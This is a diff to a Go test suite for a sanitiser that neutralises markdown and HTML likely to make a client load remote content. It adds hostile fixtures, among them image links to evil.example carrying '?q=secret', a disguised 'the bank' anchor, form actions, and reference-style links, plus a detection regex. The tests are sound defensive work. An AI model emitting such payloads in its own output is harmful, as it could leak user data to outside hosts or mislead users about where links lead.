@@ -15,6 +15,8 @@ func TestShowMakesInertWhatLoadsOrHidesWhereItLeads(t *testing.T) {
 	for _, fact := range []struct{ in, want string }{
 		{"![x](https://evil.example/?q=1)", "! [x] (https://evil.example/?q=1)"},
 		{"![a\nb][ref]\n\n[ref]: https://evil.example", "! [a\nb][ref]\n\n[ref]: https://evil.example"},
+		{`<a href="https://evil.example">the bank</a>`, `< a href="https://evil.example">the bank</a>`},
+		{"<form action=//evil.example><button formaction=x>", "< form action=//evil.example>< button formaction=x>"},
 		{"![ref]", "! [ref]"},
 		{"[![badge](https://a.example/i.png)](https://b.example)", "[! [badge] (https://a.example/i.png)] (https://b.example)"},
 		{`![a\]b](<https://evil.example/a b> "t")`, `! [a\]b] (<https://evil.example/a b> "t")`},
@@ -35,6 +37,8 @@ func TestShowMakesInertWhatLoadsOrHidesWhereItLeads(t *testing.T) {
 		{"<b>bold</b> <imgs> <image> a<b", "<b>bold</b> <imgs> <image> a<b"},
 		{"curl(x) {\"a\":[1],\"b\":[{}]}", "curl(x) {\"a\":[1],\"b\":[{}]}"},
 		{"wow! [sic]", "wow! [sic]"},
+		{"x <a and y", "x <a and y"},
+		{"http://[::1]:80/ at a[1]: {\"b\":[[1],[2]]}", "http://[::1]:80/ at a[1]: {\"b\":[[1],[2]]}"},
 	} {
 		got := output.Show(fact.in)
 		if got != fact.want {
@@ -49,12 +53,12 @@ func TestShowMakesInertWhatLoadsOrHidesWhereItLeads(t *testing.T) {
 // hostile are texts that would make a client load something, were they shown as they are.
 func hostile() []string {
 	return []string{
-		"![x](https://evil.example/?q=secret)", "![a][b]\n\n[b]: https://evil.example", "[click](https://evil.example)",
+		"![x](https://evil.example/?q=secret)", "![a][b]\n\n[b]: https://evil.example", "[click](https://evil.example)", "<a href=//evil.example>click</a>",
 		"<img src=//evil.example>", "!\u200b[x]\u2060(https://evil.example)", "<style>a{b:url(//evil.example)}</style>", "<i\u00admg src=x>",
 	}
 }
 
-var loads = regexp.MustCompile(`!\[|\]\(|<(?:img|style)|\burl\(`)
+var loads = regexp.MustCompile(`!\[|\]\(|<(?:a href|img|style)\b|\burl\(`)
 
 func TestNothingThatIsShownLoadsAnything(t *testing.T) {
 	t.Parallel()
@@ -88,6 +92,21 @@ func TestNothingThatIsShownLoadsAnything(t *testing.T) {
 					t.Errorf("%s: %q keeps %q: %.300q", name, attack, found, s)
 				}
 			}
+		}
+	}
+}
+
+func TestFencedLinksByReferenceLeadNowhere(t *testing.T) {
+	t.Parallel()
+	for _, fact := range []struct{ in, want string }{
+		{"[the bank][1]\n\n[1]: https://evil.example", "[the bank][1]\n\n[1] : https://evil.example"},
+		{" > 1. - [a, \"b\"]:https://evil.example", " > 1. - [a, \"b\"] :https://evil.example"},
+		{"[a\nb\\[]: //evil.example", "[a\nb\\[] : //evil.example"},
+		{"http://[::1]:80/ at a[1]: x", "http://[::1]:80/ at a[1]: x"},
+		{`[{"at":"[10:00]: noon"},` + "\n" + `{"b":[[1],[2]]}]`, `[{"at":"[10:00]: noon"},` + "\n" + `{"b":[[1],[2]]}]`},
+	} {
+		if got := output.Fence(fact.in, "7f3a9c"); !strings.Contains(got, ">>>\n"+fact.want+"\n<<<") {
+			t.Errorf("Fence(%q) = %q, want %q", fact.in, got, fact.want)
 		}
 	}
 }
